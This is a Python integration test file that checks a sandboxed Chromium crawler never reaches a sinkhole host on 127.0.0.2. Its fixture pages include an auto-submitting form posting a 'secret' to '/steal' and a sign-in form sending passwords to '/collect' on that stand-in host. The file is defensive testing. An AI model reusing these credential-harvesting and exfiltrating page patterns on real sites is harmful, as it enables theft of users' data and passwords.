"""The browser stays on the target's host: a crawl in real Chromium of pages that reach for
another host in every way a page can, with that other host a sinkhole on 127.0.0.2 that records
every connection. Nothing may reach it; the blocked host is listed; its failures are no fault of
the app; pop-ups are closed, dialogs dismissed, a page stuck in a loop is recorded.
"""

from __future__ import annotations

import asyncio
import threading
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field

import pytest
from playwright.async_api import async_playwright
from tests.apps.servers import StartResponse, WSGIEnviron, WSGIServerThread
from tests.apps.sinkhole import Sinkhole, sinkhole

from assay.adapters.browser.chromium import Chromium
from assay.adapters.browser.containment import contained_context
from assay.adapters.browser.launcher import browser_available, launch
from assay.agents.observation.web.crawler import CrawlConfig, CrawlResult, crawl
from assay.agents.observation.web.observe import summarise
from assay.domain.observation import Observation
from assay.domain.run import RunResult
from assay.domain.target import Credentials
from assay.oracles.ui import judge_pages
from assay.pages.containment import Containment
from assay.pages.login import LoginOutcome, sign_in
from assay.report.blocked import blocked_section

pytestmark = [
    pytest.mark.integration,
    pytest.mark.skipif(not browser_available(), reason="no Chromium: apt-get install -y chromium"),
]
POPUPS = 40


def _pages(other: str) -> dict[str, str]:
    ws = other.replace("http://", "ws://")
    return {
        "/": "<title>Home</title><h1>Home</h1>"
        + "".join(
            f'<a href="{p}">{p[1:]}</a> '
            for p in ("/third", "/popups", "/form", "/redirect", "/dialogs", "/loop")
        )
        + '<a href="/broken">broken</a> <a href="/bounce">away</a>',
        "/third": f"""<title>Third</title>
<link rel="stylesheet" href="{other}/style.css">
<style>@font-face {{ font-family: Far; src: url({other}/font.woff2); }} body {{ font-family: Far; }}</style>
<script src="{other}/lib.js"></script>
<h1>Third-party resources</h1><img src="{other}/pixel.png" alt="pixel">
<iframe src="{other}/frame" title="frame"></iframe>
<script>
  LIB.init();  // the blocked library is missing: a ReferenceError the app did not cause
  fetch("{other}/api").catch(() => {{}});
  navigator.sendBeacon("{other}/beacon", "x");
  new WebSocket("{ws}/socket");
</script>""",
        "/popups": f"""<title>Popups</title><h1>Popups</h1>
<script>for (let i = 0; i < {POPUPS}; i++) window.open("/landing?" + i);
window.open("{other}/popup"); window.open("/landing", "", "noopener");</script>""",
        "/form": f"""<title>Form</title><h1>Form</h1>
<form id="f" method="post" action="{other}/steal"><input name="q" value="secret"><button>Send</button></form>
<script>setTimeout(() => document.getElementById("f").submit(), 50);</script>""",
        "/redirect": """<title>Redirect</title><h1>Redirect</h1>
<script>new Image().src = "/bounce-image";  // redirected to the other host
setTimeout(() => { location.href = "/bounce"; }, 50);</script>""",
        "/dialogs": """<title>Dialogs</title><h1>Dialogs</h1>
<script>alert("hello"); if (confirm("Delete everything?")) fetch("/deleted", {method: "POST"});
if (prompt("Name?") !== null) fetch("/prompted", {method: "POST"});
window.onbeforeunload = () => "stay";</script>""",
        "/loop": "<title>Loop</title><h1>Loop</h1><script>while (true) {}</script>",
        "/broken": """<title>Broken</title><h1>Broken</h1><script src="/missing.js"></script>
<script>console.error("the app itself failed");</script>""",
        "/landing": "<title>Landing</title><h1>Landing</h1>",
        "/signin": f"""<title>Sign in</title><h1>Sign in</h1>
<form method="post" action="{other}/collect"><label>User <input name="user"></label>
<label>Password <input type="password" name="password"></label><button>Sign in</button></form>""",
    }


@dataclass
class TargetApp:
    """The pages above on 127.0.0.1, each request path recorded."""

    other: str
    paths: list[str] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def __call__(self, environ: WSGIEnviron, start_response: StartResponse) -> Iterable[bytes]:
        path = str(environ.get("PATH_INFO", "/"))
        with self.lock:
            self.paths.append(f"{environ.get('REQUEST_METHOD')} {path}")
        if path.startswith("/bounce"):
            start_response("302 Found", [("Location", f"{self.other}/landed{path}")])
            return [b""]
        page = _pages(self.other).get(path)
        if page is None:
            start_response("404 Not Found", [("Content-Type", "text/plain")])
            return [b"not found"]
        start_response("200 OK", [("Content-Type", "text/html; charset=utf-8")])
        return [f"<!doctype html><html><body>{page}</body></html>".encode()]


@dataclass
class Crawled:
    result: CrawlResult
    other: Sinkhole
    app: TargetApp
    base_url: str


@pytest.fixture(scope="module")
def crawled() -> Iterator[Crawled]:
    with sinkhole("127.0.0.2") as other:
        app = TargetApp(other.url)
        server = WSGIServerThread(app)
        try:
            config = CrawlConfig(depth=2, max_pages=20, budget_seconds=300, probe_actions=True)
            result = asyncio.run(crawl(server.base_url + "/", config, Chromium()))
            yield Crawled(result, other, app, server.base_url)
        finally:
            server.stop()


def test_nothing_reaches_the_other_host(crawled: Crawled) -> None:
    assert crawled.other.connections == []
    # The link check (Playwright's request API, which no route sees) stopped at the redirect.
    home = next(p for p in crawled.result.pages if p.path == "/")
    assert {link.href: link.status for link in home.links}["/bounce"] == 302


def test_the_blocked_host_is_listed_with_its_requests(crawled: Crawled) -> None:
    blocked = {b.host: b.requests for b in crawled.result.blocked}
    assert set(blocked) == {"127.0.0.2"}
    # At least what /third asks for before its load event: style, script, image, frame, fetch,
    # beacon (then the font, the socket, pop-ups, the form and the redirects, as they come).
    assert blocked["127.0.0.2"] >= 6
    web = summarise(crawled.result)
    observation = web.onto(Observation(crawled.base_url, "web"))
    assert any("127.0.0.2" in note and "blocked" in note for note in web.notes)
    section = blocked_section(RunResult(observation.target, "2026-01-01", observation=observation))
    assert "## Blocked third-party resources" in section and "`127.0.0.2`" in section


def test_blocked_resources_are_no_fault_of_the_app(crawled: Crawled) -> None:
    pages = {p.path: p for p in crawled.result.pages}
    assert {"/", "/third", "/broken"} <= set(pages)
    assert pages["/third"].console_errors == ()
    assert pages["/third"].failed_requests == ()
    faults = {(f.category, f.evidence.get("page") or f.path) for f in judge_pages(crawled.result.pages)}
    assert ("ui_console_error", "/third") not in faults
    # The filter is about the other host only: the app's own failures are still seen.
    assert ("ui_console_error", "/broken") in faults
    assert any("missing.js" in r for r in pages["/broken"].failed_requests)


def test_popups_are_closed(crawled: Crawled) -> None:
    assert crawled.result.popups_closed >= 1  # as many as opened before the crawl moved on
    contained = asyncio.run(_open_and_wait(crawled.base_url + "/popups", POPUPS + 2))
    assert contained.popups_closed == POPUPS + 2  # the loop's, the other host's, the noopener one


def test_dialogs_are_dismissed_so_a_confirm_cancels(crawled: Crawled) -> None:
    assert crawled.result.dialogs_dismissed >= 3  # alert, confirm, prompt
    # The crawl may GET the URLs it reads in the script; the POSTs the dialogs guard never happen.
    posts = [p for p in crawled.app.paths if p.startswith("POST")]
    assert not [p for p in posts if p.endswith(("/deleted", "/prompted"))]


def test_a_page_that_never_settles_is_recorded_and_the_crawl_goes_on(crawled: Crawled) -> None:
    unsettled = [p.url for p in crawled.result.unsettled]
    assert crawled.base_url + "/loop" in unsettled
    web = summarise(crawled.result)
    assert any("/loop" in line and "never settled" in line for line in web.incomplete)
    assert {"/third", "/broken", "/dialogs"} <= {p.path for p in crawled.result.pages}


def test_request_interception_alone_keeps_the_page_home() -> None:
    """Without the launcher's resolver rule (no target given at launch), the route still stops
    every request of a page that reaches for the other host. Only Chromium's speculative
    preconnect to the frame's origin (a TCP handshake, not one byte sent) gets through: the
    resolver rule is what stops that one (the crawl above)."""
    with sinkhole("127.0.0.2") as other:
        server = WSGIServerThread(TargetApp(other.url))
        try:
            containment = asyncio.run(_visit_alone(server.base_url + "/third"))
        finally:
            server.stop()
        assert all(first_line == "" for first_line in other.connections), other.connections
    assert [b.host for b in containment.blocked_hosts()] == ["127.0.0.2"]


async def _open_and_wait(url: str, popups: int) -> Containment:
    """Open ``url`` alone and wait (bounded by work: polls, not a clock) until ``popups`` pop-ups
    were closed; the page that opened them is then the context's only page."""
    async with async_playwright() as playwright:
        browser = await launch(playwright, url)
        try:
            containment = Containment(url)
            context = await contained_context(browser, containment)
            page = await context.new_page()
            await page.goto(url, wait_until="load")
            for _ in range(600):
                if containment.popups_closed >= popups and len(context.pages) == 1:
                    break
                await page.wait_for_timeout(100)
            assert context.pages == [page]
            await context.close()
            return containment
        finally:
            await browser.close()


async def _visit_alone(url: str) -> Containment:
    async with async_playwright() as playwright:
        browser = await launch(playwright)  # no target: no resolver rule
        try:
            containment = Containment(url)
            context = await contained_context(browser, containment)
            page = await context.new_page()
            await page.goto(url, wait_until="load")
            await page.wait_for_load_state("networkidle")
            await context.close()
            return containment
        finally:
            await browser.close()


def test_a_login_form_posting_elsewhere_never_hands_over_the_password(crawled: Crawled) -> None:
    asyncio.run(_sign_in(crawled.base_url + "/signin"))  # whether it "signed in" is login.py's say
    assert crawled.other.connections == []  # the password went nowhere


async def _sign_in(url: str) -> LoginOutcome:
    async with Chromium().open(url) as session:
        return await sign_in(session, url, Credentials("victim", "victim-password-1"))
